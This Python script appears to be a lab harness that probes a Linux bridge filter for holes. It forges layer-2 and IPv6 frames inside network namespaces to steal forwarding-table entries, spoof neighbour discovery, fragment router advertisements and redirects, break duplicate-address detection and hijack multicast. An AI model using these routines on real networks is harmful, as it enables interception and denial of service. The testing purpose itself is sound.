#!/usr/bin/env python3
# SPDX-License-Identifier: GPL-2.0-or-later
"""Tries on table bridge dockside that bind_attack.py does not have. Like it, it forges frames with frames.c in c1, and looks.

usage: bind_holes.py NAME MAC IPV4 IPV6 COMMAND...

Prints "FAMILY<TAB>TRY<TAB>COUNT": 0 if it had no effect.
"""
import os
import re
import socket
import struct
import subprocess
import sys
import time

import packet as p
from bind_attack import BRIDGE, C2, DOCKSIDE, GATEWAY, GOOD, Lab, Witness, in_namespace

LINK_LOCAL_GROUP = "01:80:c2:00:00:%02x"
FRAGMENT, OPTIONS = 44, 60
NA, NS, RA, REDIRECT, QUERY = 136, 135, 134, 137, 130


def run(*command):
    return subprocess.run(command, capture_output=True, text=True, check=False).stdout


def datagram(name, address, port=0):
    def make():
        s = socket.socket(p.family(address), socket.SOCK_DGRAM)
        s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        s.bind((address, port))
        s.settimeout(2)
        return s
    return in_namespace(name, make)


def seen(witness, marker, seconds=0.3):
    end, count = time.monotonic() + seconds, 0
    while time.monotonic() < end:
        count += sum(marker in frame for frame in witness.frames())
        time.sleep(0.02)
    return count


def fdb(mac):
    """The port at which the bridge believes it."""
    found = re.search(rf"^{mac} dev (\S+)", run("bridge", "fdb", "show", "br", BRIDGE), re.M)
    return found.group(1) if found else ""


def neighbour(name, address, device):
    where = ["-n", name] if name != "host" else []
    found = re.search(r"lladdr (\S+)", run("ip", *where, "-6", "neigh", "show", address, "dev", device))
    return found.group(1) if found else ""


def fragments(whole, at, options=b"", first=p.ICMP6, ident=1, atomic=False):
    """IPv6 packets: options, then the bytes of whole, the first fragment having `at` of them."""
    source, target, body = whole
    body = options + body
    head = OPTIONS if options else first
    parts = [(0, body[:at], 1), (at, body[at:], 0)] if not atomic else [(0, body, 0)]
    for offset, data, more in parts:
        data = struct.pack("!BBHI", head, 0, offset | more, ident) + data
        yield struct.pack("!IHBB", 6 << 28, len(data), FRAGMENT, 255) + p.packed(source) + p.packed(target) + data


def message(source, target, kind, body):
    """For fragments(): with its checksum."""
    return source, target, p.icmp6(source, target, kind, body)[40:]


# ---- the tries ------------------------------------------------------------------------------------


def theft(lab):
    """Frames for 01:80:c2:00:00:0x do not meet the hook prerouting, but teach the bridge where their source is."""
    victim = datagram("c2", C2[4])
    outside = datagram("outside", GOOD[4], 53)
    for last in range(16):
        lab.heal()
        time.sleep(0.02)
        before = fdb(C2["mac"])
        lab.port.send(p.ether(C2["mac"], LINK_LOCAL_GROUP % last, bytes(60), 0x88CC))
        time.sleep(0.02)
        yield f"fdb learns by {LINK_LOCAL_GROUP % last}", int(fdb(C2["mac"]) != before)
    for v, what in ((4, "IPv4"), (6, "IPv6")):
        victim, outside = datagram("c2", C2[v]), datagram("outside", GOOD[v], 53)
        victim.sendto(b"question", (GOOD[v], 53))
        _, back = outside.recvfrom(100)
        marker = lab.mark()
        lab.witness["c1"].forget()
        for _ in range(5):
            lab.port.send(p.ether(C2["mac"], LINK_LOCAL_GROUP % 14, bytes(60), 0x88CC))
            time.sleep(0.02)
            outside.sendto(marker, back)
        yield f"{what}: answers of the outside to a neighbour, read", seen(lab.witness["c1"], marker)
        outside.close()
        victim.close()
    lab.heal()
    marker, s = lab.mark(), datagram("dockside", DOCKSIDE[4])
    lab.port.send(p.ether(C2["mac"], LINK_LOCAL_GROUP % 14, bytes(60), 0x88CC))
    time.sleep(0.05)
    lab.witness["c1"].forget()
    s.sendto(marker, (C2[4], 81))
    yield "dockside's packets to a neighbour, read", seen(lab.witness["c1"], marker)
    lab.heal()
    prefix = "02:99:" + os.urandom(2).hex(":")  # those of an earlier run stay for minutes
    for i in range(1000):
        lab.port.send(p.ether("%s:%02x:%02x" % (prefix, i >> 8, i & 255), LINK_LOCAL_GROUP % 14, bytes(60), 0x88CC))
    yield "forged entries in the fdb", run("bridge", "fdb", "show", "br", BRIDGE).count(prefix)


def host_steering(lab):
    """The link-layer option of a solicitation is not looked at: the host sends what is for c1 to c2's MAC."""
    me, mine = lab.me["mac"], lab.me[6]
    group, ether = p.solicited(GATEWAY[6])
    marker = lab.mark()
    for claimed, kind in ((C2["mac"], "neighbour's MAC"), (p.BROADCAST, "broadcast"), ("33:33:00:00:00:01", "multicast")):
        marker = lab.mark()
        lab.witness["c2"].forget()
        for _ in range(3):
            lab.port.send(p.ether(me, ether, p.icmp6(mine, group, NS, bytes(4) + p.packed(GATEWAY[6]) + p.own_link(1, claimed))))
            time.sleep(0.02)
            lab.port.send(p.ether(me, lab.gateway_mac, p.icmp6(mine, GATEWAY[6], 128, b"\1\1\0\1" + marker)))
        yield f"the host's echo to {kind}", seen(lab.witness["c2"], marker)
    for kind, claimed in (("own", me),):
        lab.port.send(p.ether(me, ether, p.icmp6(mine, group, NS, bytes(4) + p.packed(GATEWAY[6]) + p.own_link(1, claimed))))
    run("ip", "-6", "neigh", "flush", "dev", BRIDGE)


def in_fragments(lab):
    me, mine = lab.me["mac"], lab.me[6]
    padding = bytes([p.ICMP6, 0, 1, 4, 0, 0, 0, 0])
    long_padding = bytes([p.ICMP6, 1, 1, 12]) + bytes(12)
    ways = {"8 bytes first": {"at": 8}, "24 bytes first": {"at": 24}, "atomic": {"at": 0, "atomic": True},
            "options first": {"at": 8, "options": padding}, "half of the options first": {"at": 8, "options": long_padding},
            "options and 8 bytes": {"at": 16, "options": padding}}
    serial = 100

    def send(whole, ether, way):
        nonlocal serial
        serial += 1
        for packet in fragments(whole, ident=serial, **way):
            lab.port.send(p.ether(me, ether, packet))
    for name, way in ways.items():
        for who, target, ether, device, claimed, right in (
                ("host", GATEWAY[6], lab.gateway_mac, BRIDGE, C2[6], C2["mac"]),
                ("c2", C2[6], C2["mac"], "eth0", GATEWAY[6], lab.gateway_mac),
                ("c2", C2[6], C2["mac"], "eth0", DOCKSIDE[6], DOCKSIDE["mac"])):
            where = [] if who == "host" else ["-n", who]
            run("ip", *where, "-6", "neigh", "replace", claimed, "lladdr", right, "dev", device, "nud", "reachable")
            send(message(mine, target, NA, struct.pack("!I", 0x60000000) + p.packed(claimed) + p.own_link(2, me)), ether, way)
            time.sleep(0.05)
            yield f"NA, {name}: {who} takes {claimed}", int(neighbour(who, claimed, device) == me)
            run("ip", *where, "-6", "neigh", "replace", claimed, "lladdr", right, "dev", device, "nud", "reachable")
        fe80 = p.link_local(me)
        lab.witness["c2"].forget()
        marker = lab.mark()
        send(message(fe80, "ff02::1", RA, struct.pack("!BBHII", 64, 8, 100, 0, 0) + p.own_link(1, me) + p.nd_option(marker)),
             "33:33:00:00:00:01", way)
        yield f"RA, {name}", seen(lab.witness["c2"], marker) + run("ip", "-n", "c2", "-6", "route").count(fe80)
        marker = lab.mark()
        send(message(fe80, C2[6], REDIRECT, bytes(4) + p.packed(fe80) + p.packed(GOOD[6]) + p.nd_option(marker)), C2["mac"], way)
        yield f"redirect, {name}", seen(lab.witness["c2"], marker)


def fe80_steering(lab):
    """A flow with the host's fe80, sent to c2's MAC."""
    me, mine, his = lab.me["mac"], p.link_local(lab.me["mac"]), p.link_local(lab.gateway_mac)
    for _ in range(2):
        lab.port.send(p.ether(me, lab.gateway_mac, p.icmp6(mine, his, 128, b"\7\7\0\1" + b"first")))
        time.sleep(0.1)
    for name, ether in (("neighbour's MAC", C2["mac"]), ("broadcast", p.BROADCAST), ("multicast", "33:33:00:00:00:fb")):
        marker = lab.mark()
        lab.witness["c2"].forget()
        lab.port.send(p.ether(me, ether, p.icmp6(mine, his, 128, b"\7\7\0\2" + marker)))
        yield f"to the host's fe80, {name}", seen(lab.witness["c2"], marker)
    for _ in range(2):
        lab.port.send(p.ether(me, lab.gateway_mac, p.icmp6(lab.me[6], GATEWAY[6], 128, b"\7\1\0\1" + b"first")))
        time.sleep(0.1)
    marker = lab.mark()
    lab.port.send(p.ether(me, C2["mac"], p.icmp6(lab.me[6], GATEWAY[6], 128, b"\7\1\0\2" + marker)))
    yield "to the host's address, neighbour's MAC", seen(lab.witness["c2"], marker)


def conflicts(lab):
    """The one that is asked for may not have its address."""
    me = lab.me["mac"]
    wanted = "fd77:1::c2:2"
    group, ether = p.solicited(wanted)
    run("nsenter", "--net=/run/netns/c2", "sh", "-c", "echo 1 >/proc/sys/net/ipv6/conf/eth0/accept_dad")
    run("ip", "-n", "c2", "addr", "add", wanted + "/64", "dev", "eth0")
    for _ in range(20):
        lab.port.send(p.ether(me, ether, p.icmp6("::", group, NS, bytes(4) + p.packed(wanted))))
        time.sleep(0.1)
    yield "DAD of a neighbour fails", run("ip", "-n", "c2", "-6", "addr", "show", "dev", "eth0").count("dadfailed")
    run("ip", "-n", "c2", "addr", "del", wanted + "/64", "dev", "eth0")
    for target in ("33:33:ff:00:00:12", C2["mac"]):
        marker = lab.mark()
        lab.witness["c2"].forget()
        lab.port.send(p.ether(me, target, p.icmp6("::", p.solicited(C2[6])[0], NS, bytes(4) + p.packed(C2[6]) + p.nd_option(marker))))
        yield f"solicitation from nobody for a neighbour's address to {target}", seen(lab.witness["c2"], marker)
    marker = lab.mark()
    lab.port.send(p.ether(me, p.BROADCAST, p.arp(1, (me, "0.0.0.0"), ("00:00:00:00:00:00", C2[4]), marker), p.ARP))
    yield "ARP probe for a neighbour's address", seen(lab.witness["c2"], marker)





def queriers(lab):
    me, fe80, mine = lab.me["mac"], p.link_local(lab.me["mac"]), lab.me[4]
    alert = bytes([p.ICMP6, 0, 5, 2, 0, 0, 1, 0])
    group = p.solicited(C2[6])[0]

    def query(about, to, ether, delay):
        lab.port.send(p.ether(me, ether, p.icmp6(fe80, to, QUERY, struct.pack("!HH", delay, 0) + p.packed(about), ttl=1, options=alert)))
    s = datagram("dockside", DOCKSIDE[6])
    port = fdb(me)
    run("ip", "-n", "dockside", "-6", "neigh", "flush", "dev", "eth0")
    # c2's reports have made its entry
    print("#", run("bridge", "-d", "mdb", "show", "dev", BRIDGE).replace("\n", "\n# "), file=sys.stderr)
    query("::", "ff02::1", "33:33:00:00:00:01", 1)
    time.sleep(0.1)
    yield "MLD query: the attacker's port is a router's", run("bridge", "-d", "mdb", "show", "dev", BRIDGE).count(f"router ports on {BRIDGE}: {port}")
    for _ in range(3):
        query(group, group, "33:33:ff:00:00:12", 1)
        time.sleep(0.2)
    yield "MLD query: a neighbour's group is gone", int(f"port" in "port" and not re.search(
        rf"port {fdb(C2['mac'])} grp {group} ", run("bridge", "mdb", "show", "dev", BRIDGE)))
    lab.witness["c2"].forget()
    lab.witness["c1"].forget()
    run("ip", "-n", "dockside", "-6", "neigh", "del", C2[6], "dev", "eth0")
    s.sendto(b"x", (C2[6], 81))
    time.sleep(0.3)
    asked = p.packed(C2[6])
    yield "MLD query: dockside's solicitation does not reach the neighbour", \
        int(not any(f[12:14] == b"\x86\xdd" and len(f) > 78 and f[54] == NS and f[62:78] == asked and f[6:12] == p.mac(DOCKSIDE["mac"]) for f in lab.witness["c2"].frames()))
    yield "MLD query: dockside cannot resolve the neighbour", int(not neighbour("dockside", C2[6], "eth0"))
    print("#", run("bridge", "-d", "mdb", "show", "dev", BRIDGE).replace("\n", "\n# "), file=sys.stderr)


def frames(lab):
    """Kinds of frames."""
    me, mine, to = lab.me["mac"], lab.me[4], C2["mac"]
    u4 = lambda s, d, ports: lambda m: p.udp(s, d, ports, m)
    tries = {
        "DHCP question from 0.0.0.0, broadcast": lambda m: p.ether(me, p.BROADCAST, p.udp("0.0.0.0", "255.255.255.255", (68, 67), m)),
        "DHCP question from 0.0.0.0, to a neighbour": lambda m: p.ether(me, to, p.udp("0.0.0.0", C2[4], (68, 67), m)),
        "DHCP question from 0.0.0.0, broadcast to a neighbour's MAC": lambda m: p.ether(me, to, p.udp("0.0.0.0", "255.255.255.255", (68, 67), m)),
        "802.3 length, LLC": lambda m: p.ether(me, to, b"\x42\x42\x03" + m, 3 + len(m)),
        "802.3 length, SNAP of IPv4": lambda m: p.ether(me, to, b"\xaa\xaa\x03\0\0\0\x08\0" + p.udp(mine, C2[4], (5000, 53), m), 8 + 28 + len(m)),
        "802.3 length 0xffff IPX": lambda m: p.ether(me, to, b"\xff\xff" + m, 2 + len(m)),
        "BPDU to 01:80:c2:00:00:00": lambda m: p.ether(me, "01:80:c2:00:00:00", b"\x42\x42\x03" + m, 3 + len(m)),
        "LLDP to 01:80:c2:00:00:0e": lambda m: p.ether(me, "01:80:c2:00:00:0e", m, 0x88CC),
        "tag 5 then IPv4": lambda m: p.ether(me, to, p.udp(mine, C2[4], (5000, 53), m), tags=[(0x8100, 5)]),
        "tag 5 802.1ad then IPv4": lambda m: p.ether(me, to, p.udp(mine, C2[4], (5000, 53), m), tags=[(0x88A8, 5)]),
        "tag 0 then 802.3": lambda m: p.ether(me, to, b"\xaa\xaa\x03\0\0\0\x08\0" + p.udp(mine, C2[4], (5000, 53), m), 8 + 28 + len(m), [(0x8100, 0)]),
        "PPPoE of IPv4": lambda m: p.ether(me, to, b"\x11\0\0\1" + struct.pack("!HH", 30 + len(m), 0x21) + p.udp(mine, C2[4], (5000, 53), m), 0x8864),
        "MPLS of IPv4": lambda m: p.ether(me, to, b"\0\x01\x01\x40" + p.udp(mine, C2[4], (5000, 53), m), 0x8847),
        "IPv6 in EtherType of IPv4": lambda m: p.ether(me, to, p.udp(lab.me[6], C2[6], (5000, 53), m), 0x0800),
        "IPv4 in EtherType of IPv6": lambda m: p.ether(me, to, p.udp(mine, C2[4], (5000, 53), m), 0x86DD),
        "ARP with lengths 8 and 4": lambda m: p.ether(me, to, struct.pack("!HHBBH", 1, 0x800, 8, 4, 2) + p.mac(me) + p.packed(mine) + p.packed(DOCKSIDE[4]) + p.mac(to) + m, p.ARP),
        "short ARP": lambda m: p.ether(me, to, struct.pack("!HHB", 1, 0x800, 6) , p.ARP),
        "source 127.0.0.1": lambda m: p.ether(me, to, p.udp("127.0.0.1", C2[4], (5000, 53), m)),
        "source multicast": lambda m: p.ether(me, to, p.udp("224.0.0.251", C2[4], (5000, 53), m)),
        "source ::ffff:mapped": lambda m: p.ether(me, to, p.udp("::ffff:172.30.1.2", C2[6], (5000, 53), m)),
        "source 6to4": lambda m: p.ether(me, to, p.udp("2002:ac1e:102::1", C2[6], (5000, 53), m)),
        "source ff02::1": lambda m: p.ether(me, to, p.udp("ff02::1", C2[6], (5000, 53), m)),
        "source MAC with the group bit": lambda m: p.ether("03:00:00:00:01:11", to, p.udp(mine, C2[4], (5000, 53), m)),
        "source MAC 0": lambda m: p.ether("00:00:00:00:00:00", to, p.udp(mine, C2[4], (5000, 53), m)),
        "RS from :: to all": lambda m: p.ether(me, "33:33:00:00:00:02", p.icmp6("::", "ff02::2", 133, bytes(4) + p.nd_option(m))),
        "RS from :: to a neighbour": lambda m: p.ether(me, to, p.icmp6("::", C2[6], 133, bytes(4) + p.nd_option(m))),
        "MLD report from :: to a neighbour": lambda m: p.ether(me, to, p.icmp6("::", C2[6], 143, bytes(4) + m)),
        "echo from fe80 to a neighbour": lambda m: p.ether(me, to, p.icmp6(p.link_local(me), C2[6], 128, bytes(4) + m)),
        "gateway's MAC, IP for a neighbour": lambda m: p.ether(me, lab.gateway_mac, p.udp(mine, C2[4], (5000, 53), m)),
        "IPv6 all routers at the neighbour's MAC": lambda m: p.ether(me, to, p.udp(lab.me[6], "ff02::2", (5000, 53), m)),
        "IPv4 multicast at the neighbour's MAC": lambda m: p.ether(me, to, p.udp(mine, "224.0.0.251", (5353, 5353), m)),
        "IPv4 multicast": lambda m: p.ether(me, "01:00:5e:00:00:fb", p.udp(mine, "224.0.0.251", (5353, 5353), m)),
        "subnet's broadcast at the neighbour's MAC": lambda m: p.ether(me, to, p.udp(mine, "172.30.1.255", (5353, 5353), m)),
        "IGMP to all": lambda m: p.ether(me, "01:00:5e:00:00:16", p.ip(mine, "224.0.0.22", 2, b"\x22\0\0\0" + m)),
    }
    for name, make in tries.items():
        yield name, lab.arrive(make, ["c2"])


def main():
    name, ether, address, address6, *command = sys.argv[1:]
    lab = Lab(name, {"mac": ether, 4: address, 6: address6}, command, True)
    lab.witness["c1"] = Witness("c1", "eth0")
    wanted = os.environ.get("TRIES")
    for tries in (frames, theft, host_steering, in_fragments, fe80_steering, conflicts, queriers):
        if wanted and tries.__name__ not in wanted.split():
            continue
        for what, count in tries(lab):
            print(tries.__name__, what, count, sep="\t", flush=True)
    os._exit(0)


if __name__ == "__main__":
    main()
